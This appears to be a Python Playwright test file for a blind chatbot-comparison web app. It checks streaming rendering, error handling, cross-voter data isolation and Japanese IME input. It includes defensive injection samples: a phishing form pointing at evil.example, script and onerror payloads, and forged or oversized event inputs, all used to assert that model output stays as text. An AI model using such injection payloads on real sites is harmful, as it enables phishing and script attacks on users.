"""The blind tab's turns streamed by the page from the battle API, in Chromium.

The app runs as users launch it, on two models of the loopback vLLM server. The page's
script writes the streamed words into the panes as plain text, then one Gradio event
draws the stored turn (``arena.ui.live``). Checked here: markup in model output stays
text while it streams, the buttons wait for the end, a refused prompt is kept with the
reason in the page's language, a model cut off mid-answer leaves a retry, a connection
lost mid-turn is said in plain words and the stored turn is drawn, and the drawing
event gives nothing of another voter's battle.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import httpx
import pytest
from playwright.sync_api import Page, Route, expect

from tests.conftest import OPEN_LIMITS, RunningApp, loopback_config, skip_reasons
from tests.loopback import Behaviour, LoopbackLLM

pytestmark = pytest.mark.browser

MODELS = {"Live-One": "loop/live-one", "Live-Two": "loop/live-two"}
PHISH = '<form id="phish" action="https://evil.example/"><input name="pw"></form>'
PWN = '<img src="x" onerror="window.__pwned = 1"><script>window.__pwned = 2</script>'
WORDS = {
    "ja": {"empty": "入力が空です。", "network": "接続が途中で切れました", "failed": "再試行"},
    "en": {"empty": "The prompt is empty.", "network": "connection was lost", "failed": "Retry"},
}


@pytest.fixture(scope="module")
def live_app(
    tmp_path_factory: pytest.TempPathFactory, loopback: LoopbackLLM
) -> Iterator[RunningApp]:
    config = loopback_config(loopback.base_url, MODELS, "retries = 0\nmax_turns = 3\n")
    app = RunningApp(tmp_path_factory.mktemp("ui-live"), config, OPEN_LIMITS)
    yield app
    app.stop()


def open_arena(page: Page, url: str, lang: str) -> None:
    page.goto(f"{url}/?lang={lang}", wait_until="domcontentloaded")
    page.wait_for_selector("#arena-prompt textarea:enabled", timeout=30_000)


def send(page: Page, prompt: str) -> None:
    page.fill("#arena-prompt textarea", prompt)
    page.click("#arena-send")


def both(llm: LoopbackLLM, behaviour: Behaviour) -> None:
    for served in MODELS.values():
        llm.set(served, behaviour)


@pytest.mark.parametrize("lang", ["ja", "en"])
def test_markup_streams_as_text_and_the_stored_turn_is_drawn(
    page: Page, live_app: RunningApp, llm: LoopbackLLM, lang: str, artifacts: Path
) -> None:
    text = f"{PHISH} **太字 bold** {PWN} おわり"
    both(llm, Behaviour(text=text, tokens=40, rate=25.0))
    open_arena(page, live_app.url, lang)
    send(page, "フォームを書いて")
    live = page.locator("#arena-chat-a .ta-live-bot")
    expect(live).to_contain_text('<form id="phish"', timeout=20_000)  # as text
    assert page.input_value("#arena-prompt textarea") == ""  # cleared at once
    assert page.evaluate("() => document.body.classList.contains('ta-busy')")
    expect(page.locator("#vote-a")).to_have_css("pointer-events", "none")
    assert page.locator("form#phish, #arena-chat-a input, #arena-chat-a img").count() == 0
    page.locator(".ta-panes").screenshot(path=str(artifacts / f"live-streaming-{lang}.png"))
    expect(page.locator("#vote-a")).to_be_enabled(timeout=30_000)
    expect(page.locator(".ta-live")).to_have_count(0)
    assert not page.evaluate("() => document.body.classList.contains('ta-busy')")
    for pane in ("#arena-chat-a", "#arena-chat-b"):  # drawn by arena.render from storage
        expect(page.locator(f"{pane} .message-content strong")).to_have_text("太字 bold")
        expect(page.locator(pane)).to_contain_text("おわり")
    assert page.locator("form#phish, .ta-pane input, .ta-pane img").count() == 0
    assert page.evaluate("() => window.__pwned") is None
    content = page.content()
    assert not any(name in content for name in MODELS)  # still blind before the vote
    # a second turn goes the same way, into the same battle
    send(page, "もう一度")
    expect(page.locator("#vote-a")).to_be_enabled(timeout=30_000)
    expect(page.locator("#arena-chat-b .message-content")).to_have_count(4)
    page.click("#vote-b")
    skip_reasons(page)
    expect(page.locator("#arena-reveal")).to_contain_text("Live-", timeout=20_000)


@pytest.mark.parametrize("lang", ["ja", "en"])
def test_a_refused_prompt_is_kept_and_the_reason_said(
    page: Page, live_app: RunningApp, llm: LoopbackLLM, lang: str
) -> None:
    open_arena(page, live_app.url, lang)
    invisible = "\u200b\u200b"  # only zero-width spaces: refused as empty by the server
    send(page, invisible)
    expect(page.locator("#arena-status .ta-warning")).to_contain_text(
        WORDS[lang]["empty"], timeout=20_000
    )
    expect(page.locator("#arena-prompt textarea")).to_have_value(invisible)
    expect(page.locator(".ta-live")).to_have_count(0)
    assert page.locator("#arena-chat-a .message-content").count() == 0


@pytest.mark.parametrize("lang", ["ja", "en"])
def test_a_model_cut_off_mid_answer_leaves_a_retry(
    page: Page, live_app: RunningApp, llm: LoopbackLLM, lang: str
) -> None:
    llm.set(MODELS["Live-One"], Behaviour(mode="cut", tokens=30, fail_after=5, rate=50.0))
    open_arena(page, live_app.url, lang)
    send(page, "途中で切れる質問")
    retry = page.locator("#arena-retry-a:visible, #arena-retry-b:visible")
    expect(retry).to_have_count(1, timeout=30_000)
    expect(retry).to_contain_text(WORDS[lang]["failed"])
    expect(page.locator(".ta-live")).to_have_count(0)
    expect(page.locator("#vote-a")).to_be_disabled()
    for pane in ("#arena-chat-a", "#arena-chat-b"):  # the cut answer is kept and shown
        expect(page.locator(f"{pane} .message-content")).to_have_count(2)
    llm.reset()
    retry.click()
    expect(page.locator("#vote-a")).to_be_enabled(timeout=30_000)


@pytest.mark.parametrize("lang", ["ja", "en"])
def test_a_connection_lost_mid_turn_is_said_and_the_stored_turn_drawn(
    page: Page, live_app: RunningApp, llm: LoopbackLLM, lang: str
) -> None:
    both(llm, Behaviour(tokens=12, rate=100.0))

    def cut(route: Route) -> None:  # the real answer, ended before its "done" event
        response = route.fetch()
        body = response.text()
        route.fulfill(response=response, body=body[: body.index("event: done")])

    open_arena(page, live_app.url, lang)
    page.route("**/api/battles", cut)
    send(page, "切れる接続")
    expect(page.locator("#arena-status .ta-warning")).to_contain_text(
        WORDS[lang]["network"], timeout=20_000
    )
    expect(page.locator("#vote-a")).to_be_enabled(timeout=20_000)  # the server stored it all
    expect(page.locator("#arena-chat-a .message-content")).to_have_count(2)
    expect(page.locator(".ta-live")).to_have_count(0)


def test_the_drawing_event_gives_nothing_of_another_voters_battle(live_app: RunningApp) -> None:
    with httpx.Client(base_url=live_app.url, timeout=60) as client:
        owner, other = (client.post("/api/voters").json()["voter"] for _ in range(2))
        turn = client.post("/api/battles", json={"voter": owner, "prompt": "秘密の相談です"})
        battle_id = re.search(r'"battle_id": "(\w+)"', turn.text)[1]

        def drawn(voter: str, outcome: object) -> str:
            r = client.post("/gradio_api/call/arena_streamed", json={"data": [outcome, voter]})
            return client.get(f"/gradio_api/call/arena_streamed/{r.json()['event_id']}").text

        ok = json.dumps({"battle_id": battle_id, "started": True})
        assert "秘密の相談です" in text_of(drawn(owner, ok))
        forged = json.dumps({"battle_id": battle_id, "error": "<b>x</b>"})
        for outcome in (ok, forged, "[1]", "{", 42, "x" * 2_000_000):
            body = drawn(other, outcome)
            assert "秘密" not in text_of(body) and battle_id not in body
            assert "<b>x</b>" not in text_of(body)


def text_of(body: str) -> str:
    """An event stream's data as text (JSON escapes undone)."""
    out = []
    for line in body.splitlines():
        if line.startswith("data: "):
            try:
                out.append(json.dumps(json.loads(line[6:]), ensure_ascii=False))
            except ValueError:
                out.append(line[6:])
    return "\n".join(out)


# The events of the Enter that confirms an IME conversion, as each engine fires them
# (each: type, and for key events key, keyCode and isComposing), after the text is typed.
IME_ORDERS = {
    "webkit": [("compositionend",), ("keydown", "Enter", 229, False),
               ("keypress", "Enter", 13, False), ("keyup", "Enter", 13, False)],
    "blink": [("keydown", "Enter", 229, True), ("compositionend",), ("keyup", "Enter", 13, False)],
    "composing keypress": [("keydown", "Enter", 13, True), ("keypress", "Enter", 13, True),
                           ("compositionend",), ("keyup", "Enter", 13, False)],
    "enter right after compositionend": [("compositionend",), ("keypress", "Enter", 13, False)],
}  # fmt: skip

DISPATCH_JS = """([selector, events]) => {
  const el = document.querySelector(selector);
  el.focus();
  el.dispatchEvent(new CompositionEvent("compositionstart", {bubbles: true, data: ""}));
  for (const [type, key, code, composing] of events) {
    if (type === "compositionend") {
      el.dispatchEvent(new CompositionEvent("compositionend", {bubbles: true, data: "日本語"}));
      continue;
    }
    const ev = new KeyboardEvent(type, {key, bubbles: true, cancelable: true,
                                        isComposing: composing});
    Object.defineProperty(ev, "keyCode", {get: () => code});
    Object.defineProperty(ev, "which", {get: () => code});
    el.dispatchEvent(ev);
  }
}"""


@pytest.mark.parametrize("order", list(IME_ORDERS))
def test_the_enter_that_confirms_japanese_input_never_sends(
    page: Page, live_app: RunningApp, llm: LoopbackLLM, order: str
) -> None:
    sent: list[str] = []  # the prompts of POST /api/battles, the page's one way to send
    page.on(
        "request",
        lambda r: (
            sent.append(json.loads(r.post_data or "{}").get("prompt"))
            if r.method == "POST" and urlsplit(r.url).path == "/api/battles"
            else None
        ),
    )
    open_arena(page, live_app.url, "ja")
    box = "#arena-prompt textarea"
    page.fill(box, "日本語")
    page.evaluate(DISPATCH_JS, [box, IME_ORDERS[order]])
    assert page.input_value(box) == "日本語"
    # A real Enter, once the guard's 100 ms after compositionend are over, sends a longer
    # prompt. A send by the confirming Enter would have started before it, with the
    # shorter text: the only prompt sent must be this one.
    page.wait_for_timeout(150)
    page.fill(box, "日本語です")
    page.press(box, "Enter")
    expect(page.locator("#vote-a")).to_be_enabled(timeout=30_000)
    assert sent == ["日本語です"]
